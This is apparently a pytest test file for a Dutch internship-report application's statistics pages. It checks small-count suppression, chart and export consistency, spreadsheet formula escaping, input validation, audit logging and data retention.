    assert len(rows[0]) == len(outcomes) + 2
    cells = [[truth.get((p, o), 0) for o in outcomes] for p in phases]
    full = disclosure.augmented(cells)
    hidden = {}
    for r, row in enumerate(rows[1:]):
        for c, text in enumerate(row[1:]):
            if text == "<5":
                assert 1 <= full[r][c] <= 4
                hidden[(r, c)] = disclosure.PRIMARY
            elif text == "×":
                hidden[(r, c)] = disclosure.COMPLEMENTARY
            else:
                assert int(text) == full[r][c], (r, c)
    # The two withdrawn reports, and enough else that they cannot be worked out.
    assert hidden[(0, outcomes.index("withdrawn"))] == disclosure.PRIMARY
    assert disclosure.COMPLEMENTARY in hidden.values()
    assert disclosure.is_protected(full, hidden, K)
    assert no_small_count(visible_numbers(rows))
    # A two-way table has counts only.
    assert "Mediaan" not in "".join(rows[0])


def test_referred_escalated_and_sbb_decision_count_each_case_once(as_monitor):
    institution = make_institution()
    handler = make_user(Role.HANDLER, institution)
    company = make_company()
    referred = reports(5, institution, MARCH, ack=1)
    warned = reports(5, institution, MARCH, ack=1)
    improved = reports(5, institution, MARCH, ack=1)
    reports(5, institution, MARCH)  # neither
    db.session.flush()

    def investigation(case, decision, **fields):
        db.session.add(
            Investigation(
                company_id=company.id,
                origin=InvestigationOrigin.ESCALATION,
                status=InvestigationStatus.DECIDED if decision else InvestigationStatus.RECEIVED,
                decision=decision,
                case_id=case.id,
                institution_id=institution.id,
                created_by_id=handler.id,
                summary=SUMMARY,
                **fields,
            )
        )
        db.session.flush()

    for case in referred:
        db.session.add(
            Referral(case=case, adv=institution.adv, referred_by=handler, summary=SUMMARY)
        )
    # A second referral of one case is still one referred case.
    db.session.add(
        Referral(case=referred[0], adv=institution.adv, referred_by=handler, summary=SUMMARY)
    )
    for case in warned:
        investigation(case, Decision.WARNING)
    for case in improved:  # looked at twice: the latest decision counts
        investigation(case, Decision.NO_ACTION)
        investigation(case, Decision.IMPROVEMENT)
    # SBB's own investigation of the company (a signal) is no report.
    db.session.add(
        Investigation(
            company_id=company.id,
            origin=InvestigationOrigin.SIGNAL,
            status=InvestigationStatus.DECIDED,
            decision=Decision.REVOCATION,
            created_by_id=handler.id,
            summary=SUMMARY,
        )
    )

    assert counts(as_monitor, year=2025, dimension="referred") == {
        "Ja": "5",
        "Nee": "15",
        "Totaal": "20",
    }
    assert counts(as_monitor, year=2025, dimension="escalated") == {
        "Ja": "10",
        "Nee": "10",
        "Totaal": "20",
    }
    assert counts(as_monitor, year=2025, dimension="sbb_decision") == {
        "Geen besluit": "10",
        "Ongegrond of geen actie": "0",
        "Gesprek gevoerd met het bedrijf": "0",
        "Verbeterafspraken met voorwaarden": "5",
        "Waarschuwing": "5",
        "Schorsing: tijdelijk geen nieuwe studenten": "0",
        "Intrekking van de erkenning": "0",
        "Totaal": "20",
    }


def test_outcome_and_channel_use_every_value_of_their_vocabulary(as_monitor):
    institution = make_institution()
    reports(5, institution, MARCH, channel=Channel.VISIT, closed=4, outcome=Outcome.ADV_CLOSED)
    reports(6, institution, MARCH, channel=Channel.WEB)

    outcome = counts(as_monitor, year=2025, dimension="outcome")
    channel = counts(as_monitor, year=2025, dimension="channel")

    assert outcome["Nog open"] == "6"
    assert outcome["Doorverwezen en afgesloten door ADV"] == "5"
    assert len(outcome) == 1 + len(Outcome) + 1
    assert channel == {
        "Webformulier": "6",
        "Telefoon": "0",
        "Bezoek": "5",
        "Mail of brief": "0",
        "Totaal": "11",
    }


def test_the_chart_draws_exactly_the_numbers_of_the_table(as_monitor):
    seed_mixed()
    for params in (
        {"year": 2025, "dimension": "phase"},
        {"year": 2025, "dimension": "ground"},
        {"year": 2025, "dimension": "phase", "dimension2": "outcome"},
        {"year": 2025, "level": "institution", "dimension": "phase"},
    ):
        page = view(as_monitor, **params)
        rows = table_rows(page)
        groups = chart_groups(page)
        body = rows[1:-1]  # the chart has no totals
        two_way = "dimension2" in params or "level" in params
        assert len(groups) == len(body), params
        for (label, texts, drawn), row in zip(groups, body, strict=True):
            assert row[0].startswith(label.rstrip("…")), (label, row[0])
            expected = row[1:-1] if two_way else row[1:2]
            assert texts == expected, (params, row[0])
            assert drawn == sum(1 for t in expected if t not in ("<5", "×")), (params, row[0])
        if two_way:
            legend = re.findall(r"</svg> ([^<]+)</li>", page)
            assert [html_lib.unescape(x).strip() for x in legend] == rows[0][1:-1]


# --- Exports ---------------------------------------------------------------------------------

EXPORT_QUERIES = [
    pytest.param(
        {"period": "year", "year": 2025, "dimension": "phase"},
        "meldingen_phase_2025",
        id="year-phase",
    ),
    pytest.param(
        {
            "period": "quarter",
            "year": 2025,
            "quarter": 1,
            "dimension": "phase",
            "dimension2": "ground",
        },
        "meldingen_phase_ground_2025-q1",
        id="quarter-two-way",
    ),
    pytest.param(
        {"period": "school_year", "year": 2024, "level": "institution", "dimension": "outcome"},
        "meldingen_institution_outcome_schooljaar-2024-2025",
        id="school-year-institutions",
    ),
    pytest.param(
        {
            "period": "range",
            "date_from": "2025-02-01",
            "date_to": "2025-03-31",
            "level": "region",
            "dimension": "channel",
        },
        "meldingen_region_channel_2025-02_2025-03",
        id="range-regions",
    ),
    pytest.param(
        {"period": "month", "year": 2025, "month": 3, "dimension": "ground"},
        "meldingen_ground_2025-03",
        id="month-ground",
    ),
]


def _export_links(page: str) -> dict[str, str]:
    links = re.findall(r'<a href="(/statistieken/export\.(csv|xlsx|json)\?[^"]*)">', page)
    return {kind: html_lib.unescape(href) for href, kind in links}


@pytest.mark.parametrize(("params", "stem"), EXPORT_QUERIES)
def test_csv_xlsx_and_json_exports_are_the_pages_table(as_monitor, params, stem):
    seed_mixed()
    page = view(as_monitor, **params)
    rows = table_rows(page)
    title, period = caption(page)
    rule, *notes = hints_after(page)
    links = _export_links(page)
    assert set(links) == {"csv", "xlsx", "json"}
    assert rule == RULE

    files = {}
    for kind, href in links.items():
        response = as_monitor.get(href)
        assert response.status_code == 200, kind
        assert response.headers["Content-Disposition"] == f'attachment; filename="{stem}.{kind}"'
        files[kind] = response

    # CSV: the page's text, cell for cell, under the title, the rule and the notes.
    lines = csv_rows(files["csv"])
    assert lines[0] == [title, period]
    assert lines[1] == [RULE]
    assert lines[2 : 2 + len(notes)] == [[n] for n in notes]
    assert lines[2 + len(notes) :] == [[safe(c) for c in row] for row in rows]
    assert files["csv"].mimetype == "text/csv"

    # XLSX: the same, numbers as numbers.
    sheet = xlsx_rows(files["xlsx"])
    width = len(rows[0])
    assert sheet[0][:2] == [title, period]
    assert sheet[1][0] == RULE
    assert [line[0] for line in sheet[2 : 2 + len(notes)]] == notes
    assert sheet[2 + len(notes)][:width] == rows[0]
    body = [line[:width] for line in sheet[3 + len(notes) :]]
    assert_machine_rows_match_page(rows, body)

    # JSON: the same table with its period and the rule.
    data = json.loads(files["json"].get_data(as_text=True))
    assert files["json"].mimetype == "application/json"
    assert data["title"] == title
    assert data["period"]["label"] == period
    assert data["suppression"] == RULE
    assert data["notes"] == notes
    assert data["columns"] == rows[0]
    assert_machine_rows_match_page(rows, data["rows"])
    assert data["rows"] == body
    assert data["level"] == params.get("level", "sector")
    assert data["dimensions"] == [params["dimension"], *filter(None, [params.get("dimension2")])]


def test_the_json_export_gives_the_periods_first_day_and_the_day_after(as_monitor):
    seed_mixed()
    for params, start, end in (
        ({"period": "year", "year": 2025}, "2025-01-01", "2026-01-01"),
        ({"period": "school_year", "year": 2024}, "2024-08-01", "2025-08-01"),
        ({"period": "quarter", "year": 2025, "quarter": 4}, "2025-10-01", "2026-01-01"),
        ({"period": "month", "year": 2024, "month": 2}, "2024-02-01", "2024-03-01"),
        (
            {"period": "range", "date_from": "2025-03-01", "date_to": "2025-03-31"},
            "2025-03-01",
            "2025-04-01",
        ),
    ):
        db.session.commit()
        data = as_monitor.get("/statistieken/export.json", query_string=params).get_json()
        assert (data["period"]["start"], data["period"]["end"]) == (start, end), params


def test_text_a_spreadsheet_would_run_is_escaped_in_xlsx_and_csv(as_monitor):
    for name in FORMULA_NAMES:
        reports(5, make_institution(name=name), MARCH, phase="application")
    reports(5, make_institution(name="Gewoon College"), MARCH, phase="internship")
    params = {"year": 2025, "level": "institution", "dimension": "phase"}
    page = view(as_monitor, **params)
    shown = [row[0] for row in table_rows(page)[1:-1]]
    assert sorted(shown) == sorted([*FORMULA_NAMES, "Gewoon College"])

    sheet = xlsx_sheet(as_monitor.get("/statistieken/export.xlsx", query_string=params))
    labels = {}
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate  # no formula anywhere
        labels[row[0].value] = row[0]
    for name in FORMULA_NAMES:
        cell = labels["'" + name]
        assert cell.data_type == "s"
        assert name not in labels
    assert labels["Gewoon College"].data_type == "s"
    # The counts stay numbers.
    assert labels["'" + FORMULA_NAMES[0]].offset(column=1).value == 5

    lines = csv_rows(as_monitor.get("/statistieken/export.csv", query_string=params))
    first_cells = [line[0] for line in lines]
    for name in FORMULA_NAMES:
        assert "'" + name in first_cells
        assert name not in first_cells
    assert "Gewoon College" in first_cells
    assert not any(cell[:1] in ("=", "+", "-", "@") for line in lines for cell in line)

    # JSON is data, not a spreadsheet: the names as they are.
    data = as_monitor.get("/statistieken/export.json", query_string=params).get_json()
    assert sorted(row[0] for row in data["rows"][:-1]) == sorted(shown)


def test_the_csv_export_says_its_charset_once(as_monitor):
    seed_mixed()
    db.session.commit()
    response = as_monitor.get("/statistieken/export.csv?year=2025")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"


# --- One rule for every path ------------------------------------------------------------------


def load_demo(runner, auth):
    """The demo data, with its monitor logged in."""
    from stagepact.demo import DEMO_PASSWORD
    from stagepact.models import User

    result = runner.invoke(args=["stagepact", "demo"])
    assert result.exit_code == 0, result.output
    db.session.expire_all()
    monitor = db.session.scalar(sa.select(User).where(User.role == Role.MONITOR))
    assert monitor is not None and monitor.email in result.output
    response = auth.login(monitor, DEMO_PASSWORD)
    assert response.status_code == 302
    assert urlsplit(response.headers["Location"]).path == "/statistieken/"
    return monitor


def test_no_count_from_1_to_4_is_visible_on_any_page_chart_export_or_api_response(
    runner, client, auth
):
    from stagepact import api_tokens

    monitor = load_demo(runner, auth)
    _token, plain = api_tokens.create(monitor, "sweep")
    db.session.commit()
    bearer = {"Authorization": f"Bearer {plain}"}
    last = local_today()
    period = {
        "period": "range",
        "date_from": (last - timedelta(days=364)).isoformat(),
        "date_to": last.isoformat(),
    }
    choices = [{"level": level, "dimension": d} for level in LEVELS for d in DIMENSIONS]
    choices += [
        {"dimension": a, "dimension2": b}
        for i, a in enumerate(DIMENSIONS)
        for b in DIMENSIONS[i + 1 :]
    ]
    companies = db.session.scalars(sa.select(Company.name)).all()
    assert companies
    hidden_seen = 0
    for choice in choices:
        params = {**period, **choice}
        page = view(client, **params)
        rows = table_rows(page)
        assert no_small_count(count_cells(rows[0], rows[1:])), params
        assert no_small_count(t for _l, texts, _d in chart_groups(page) for t in texts), params
        api = client.get("/api/v1/statistics", query_string=params, headers=bearer)
        assert api.status_code == 200
        api_rows = api.get_json()["rows"]
        assert no_small_count(count_cells(rows[0], api_rows)), params
        assert_machine_rows_match_page(rows, api_rows)
        for name in companies:
            assert name not in page and name not in api.get_data(as_text=True), name
        hidden_seen += sum(cell in ("<5", "×") for cell in visible_numbers(rows))
    assert hidden_seen > 50  # the demo has small numbers to hide

    for choice in choices[:: len(DIMENSIONS) - 1]:
        params = {**period, **choice}
        header = table_rows(view(client, **params))[0]
        lines = csv_rows(client.get("/statistieken/export.csv", query_string=params))
        assert no_small_count(count_cells(header, lines[lines.index(header) + 1 :])), params
        sheet = xlsx_rows(client.get("/statistieken/export.xlsx", query_string=params))
        start = [line[: len(header)] for line in sheet].index(header) + 1
        assert no_small_count(count_cells(header, sheet[start:])), params
        data = client.get("/statistieken/export.json", query_string=params).get_json()
        assert no_small_count(count_cells(header, data["rows"])), params


@pytest.mark.xfail(
    strict=True,
    reason=(
        "Disclosure control protects each table on its own (statistics.table -> "
        "disclosure.protect), not the tables a monitor can request together. Here the one-way "
        "phase table hides internship (0) as complementary to school (2), and the phase x "
        "ground table shows the internship row total 0, so school = total 9 - 7 - 0 - 0 = 2 "
        "exactly. Linked tables (the same margins in a one-way and a two-way table, and across "
        "levels) need consistent suppression."
    ),
)
def test_a_count_hidden_in_one_table_is_not_given_away_by_another_table_of_the_period(
    as_monitor,
):
    institution = make_institution()
    reports(7, institution, MARCH, phase="application", grounds=["origin", "name"])
    reports(2, institution, MARCH, phase="school", grounds=[])

    one_way = column(table_rows(view(as_monitor, year=2025, dimension="phase")))
    hidden_rows = {label for label, text in one_way.items() if text in ("<5", "×")}
    assert PHASE["school"] in hidden_rows
    # What the monitor learns of each hidden row from the two-way tables with phase as rows.
    # A row total of ground pairs that is 0 means no report; any other row total is the count.
    known = {}
    for second in DIMENSIONS[1:]:
        two_way = table_rows(view(as_monitor, year=2025, dimension="phase", dimension2=second))
        for row in two_way[1:-1]:
            total = row[-1]
            if row[0] in hidden_rows and total.isdigit():
                if second != "ground" or total == "0":
                    known[row[0]] = int(total)
    unknown = hidden_rows - set(known)
    visible = sum(int(t) for label, t in one_way.items() if t.isdigit() and label != "Totaal")
    worked_out = dict(known)
    if len(unknown) == 1 and one_way["Totaal"].isdigit():
        worked_out[unknown.pop()] = int(one_way["Totaal"]) - visible - sum(known.values())

    assert PHASE["school"] not in worked_out, worked_out


# --- Validation ------------------------------------------------------------------------------

INVALID_CHOICES = [
    pytest.param(
        {"period": "range", "date_from": "2025-03-10", "date_to": "2025-03-01"},
        {"date_to": "De laatste dag ligt vóór de eerste."},
        id="range-reversed",
    ),
    pytest.param(
        {"period": "range"},
        {"date_from": "Vul de eerste dag in.", "date_to": "Vul de laatste dag in."},
        id="range-without-dates",
    ),
    pytest.param(
        {"period": "range", "date_from": "2025-03-10"},
        {"date_to": "Vul de laatste dag in."},
        id="range-without-last-day",
    ),
    pytest.param(
        {"period": "range", "date_from": "2001-01-01", "date_to": "2015-01-01"},
        {"date_to": "Kies een periode van hoogstens tien jaar."},
        id="range-too-long",
    ),
    pytest.param(
        {"period": "range", "date_from": "1999-12-30", "date_to": "2000-01-05"},
        {"date_from": "Kies een datum tussen 2000 en 2100."},
        id="range-before-2000",
    ),
    pytest.param(
        {"dimension": "ground", "dimension2": "ground"},
        {"dimension2": "Kies twee verschillende kenmerken."},
        id="same-dimension-twice",
    ),
    pytest.param(
        {"level": "region", "dimension": "phase", "dimension2": "ground"},
        {"dimension2": "Per regio of per instelling kan één kenmerk; kies hier 'Niets'."},
        id="two-dimensions-per-region",
    ),
    pytest.param(
        {"level": "institution", "dimension": "phase", "dimension2": "form"},
        {"dimension2": "Per regio of per instelling kan één kenmerk; kies hier 'Niets'."},
        id="two-dimensions-per-institution",
    ),
    pytest.param({"year": "1999"}, {"year": "Kies een jaar tussen 2000 en 2100."}, id="year-1999"),
    pytest.param({"year": "2101"}, {"year": "Kies een jaar tussen 2000 en 2100."}, id="year-2101"),
    pytest.param({"period": "year", "year": ""}, {"year": "Vul een jaar in."}, id="year-empty"),
    pytest.param({"year": "twintig"}, {"year": None}, id="year-not-a-number"),
    pytest.param({"period": "decade"}, {"period": None}, id="unknown-period"),
    pytest.param({"dimension": "company"}, {"dimension": None}, id="unknown-dimension"),
    pytest.param({"level": "world"}, {"level": None}, id="unknown-level"),
    pytest.param({"period": "month", "month": "13"}, {"month": None}, id="month-13"),
]


@pytest.mark.parametrize(("params", "errors"), INVALID_CHOICES)
def test_an_impossible_choice_is_422_with_the_message_beside_the_field(as_monitor, params, errors):
    query = {"year": "2025", **params}

    page = view(as_monitor, status=422, **query)

    assert 'class="error-summary"' in page
    assert 'id="stats-table"' not in page
    for field, message in errors.items():
        shown = field_error(page, field)
        if message is not None:
            assert shown == message
        else:
            assert shown
        assert f'href="#{field}"' in page
    # What was typed stays in the form.
    for name in ("date_from", "date_to"):
        if params.get(name):
            assert f'value="{params[name]}"' in page
    assert events("statistics.viewed") == []
    assert events("statistics.exported") == []
    for kind in ("csv", "xlsx", "json"):
        assert as_monitor.get(f"/statistieken/export.{kind}", query_string=query).status_code == 400
    assert events("statistics.exported") == []


def test_the_page_without_a_choice_shows_this_years_reports_by_phase(as_monitor):
    institution = make_institution()
    make_case(institution, phase="application")
    page = view(as_monitor)
    assert caption(page) == ("Meldingen naar fase", str(local_today().year))
    assert column(table_rows(page))["Totaal"] == "<5"


# --- Audit -----------------------------------------------------------------------------------


def test_every_view_and_export_is_an_audit_event_with_its_parameters_and_nothing_personal(
    as_monitor, monitor
):
    world = seed_mixed()
    params = {"period": "quarter", "year": "2025", "quarter": "1", "dimension": "phase"}

    view(as_monitor, **params)
    for kind in ("csv", "xlsx", "json"):
        assert (
            as_monitor.get(f"/statistieken/export.{kind}", query_string=params).status_code == 200
        )
    view(as_monitor, year="2025", level="institution", dimension="ground")

    viewed = events("statistics.viewed")
    exported = events("statistics.exported")
    assert len(viewed) == 2 and len(exported) == 3
    expected = {
        "period": "quarter",
        "year": "2025",
        "quarter": "1",
        "level": "sector",
        "dimension": "phase",
    }
    assert json.loads(viewed[0].details) == {"parameters": expected}
    assert [json.loads(e.details) for e in exported] == [
        {"parameters": expected, "format": kind} for kind in ("csv", "xlsx", "json")
    ]
    assert json.loads(viewed[1].details)["parameters"] == {
        "period": "year",
        "year": "2025",
        "level": "institution",
        "dimension": "ground",
    }
    for event in viewed + exported:
        assert (event.actor_type, event.actor_id) == ("user", monitor.id)
        assert event.case_id is None and event.institution_id is None
        for secret in (NARRATIVE, REPORTER, REPORTER_EMAIL, COMPANY, world["albeda"].name):
            assert secret not in event.details


# --- An institution's own figures -----------------------------------------------------------


def _own_and_rest():
    own = make_institution(name="Eigen College")
    other = make_institution(name="Ander College")
    third = make_institution(name="Derde College")
    reports(2, own, MARCH, phase="application")
    reports(6, own, MARCH, phase="internship")
    reports(3, other, MARCH, phase="application")
    reports(7, other, MARCH, phase="internship")
    reports(5, third, MARCH, phase="school")
    db.session.commit()
    return own


@pytest.mark.parametrize("role", [Role.HANDLER, Role.INSTITUTION_ADMIN])
def test_institution_staff_see_their_own_figures_beside_the_suppressed_rest_of_the_sector(
    client, auth, role
):
    own = _own_and_rest()
    user = make_user(role, own)
    auth.login(user)

    page = view(client, year=2025, dimension="phase")

    own_rows = table_rows(page, "own-table")
    rest_rows = table_rows(page, "rest-table")
    assert column(own_rows) == {
        PHASE["application"]: "2",  # their own reports: nothing hidden
        PHASE["internship"]: "6",
        PHASE["school"]: "0",
        PHASE["other"]: "0",
        "Totaal": "8",
    }
    assert hints_after(page, "own-table")[0] == "Uw eigen meldingen: hier is niets verborgen."
    # The rest of the sector: 3 application (primary), 7, 5, 0 -> the 0 hides beside the 3.
    assert column(rest_rows) == {
        PHASE["application"]: "<5",
        PHASE["internship"]: "7",
        PHASE["school"]: "5",
        PHASE["other"]: "×",
        "Totaal": "15",
    }
    assert hints_after(page, "rest-table")[0] == RULE
    assert no_small_count(visible_numbers(rest_rows))
    assert own_rows[0] == rest_rows[0] == ["Fase", *MEASURE_HEADER]
    # The same dimensions as a monitor, two of them too.
    two_way = view(client, year=2025, dimension="phase", dimension2="channel")
    assert table_rows(two_way, "own-table")[1][:2] == [PHASE["application"], "2"]
    assert no_small_count(visible_numbers(table_rows(two_way, "rest-table")))
    # Levels are for monitors.
    refused = view(client, status=422, year=2025, level="institution")
    assert "Dit niveau is hier niet beschikbaar." in html_lib.unescape(refused)
    assert "Ander College" not in refused and "Ander College" not in page
    viewed = events("statistics.viewed")
    assert len(viewed) == 2
    assert json.loads(viewed[0].details) == {
        "own_institution": True,
        "parameters": {"period": "year", "year": "2025", "level": "sector", "dimension": "phase"},
    }
    assert viewed[0].institution_id == own.id


# --- Retention -------------------------------------------------------------------------------


def test_erasing_personal_data_of_closed_cases_leaves_every_table_unchanged(client, auth, monitor):
    world = seed_mixed()
    handler = make_user(Role.HANDLER, world["albeda"])
    closed = [c for c in world["cases"] if c.status == Status.CLOSED]
    for case in closed[:3]:
        db.session.add(
            Message(
                case=case,
                kind=Message.TO_STUDENT,
                author_id=handler.id,
                body="Hoe gaat het, Yusuf?",
            )
        )
        make_attachment(case)
    db.session.commit()
    assert closed

    queries = [{"year": 2025, "dimension": d} for d in DIMENSIONS]
    queries += [{"year": 2025, "level": level, "dimension": "outcome"} for level in LEVELS[1:]]
    queries += [
        {"year": 2025, "dimension": "phase", "dimension2": "ground"},
        {"period": "school_year", "year": 2024, "dimension": "outcome"},
    ]

    def tables(as_client):
        return [table_rows(view(as_client, **q)) for q in queries]

    sector_queries = [q for q in queries if "level" not in q]

    def own_tables():
        pages = [view(client, **q) for q in sector_queries]
        return [(table_rows(p, "own-table"), table_rows(p, "rest-table")) for p in pages]

    auth.login(monitor)
    before = tables(client)
    auth.logout()
    auth.login(handler)
    own_before = own_tables()

    for case in db.session.scalars(sa.select(Case).where(Case.status == Status.CLOSED)):
        case.reporter_name = case.student_number = case.email = case.phone = None
        case.notify_email = None
        case.narrative = ""
        for message in case.messages:
            message.body = ""
        for attachment in db.session.scalars(
            sa.select(Attachment).where(Attachment.case_id == case.id)
        ):
            db.session.delete(attachment)
    db.session.commit()
    db.session.expire_all()
    erased = db.session.scalars(sa.select(Case).where(Case.status == Status.CLOSED)).all()
    assert len(erased) == len(closed)
    assert all(c.narrative == "" and c.reporter_name is None and c.email is None for c in erased)
    assert all(m.body == "" for c in erased for m in c.messages)
    assert sum(len(c.messages) for c in erased) >= 3

    assert own_tables() == own_before
    auth.logout()
    auth.login(monitor)
    assert tables(client) == before


def test_the_period_covers_reports_by_their_dutch_submission_date_only():
    """Sanity of the hand-made boundaries above: local midnight in UTC, summer and winter."""
    assert local_date(at("2024-12-31T23:30:00")) == date(2025, 1, 1)
    assert local_date(at("2025-07-31T22:00:00")) == date(2025, 8, 1)
    assert local_date(at("2025-10-31T22:59:00")) == date(2025, 10, 31)
    assert local_date(at("2025-03-31T22:00:00")) == date(2025, 4, 1)
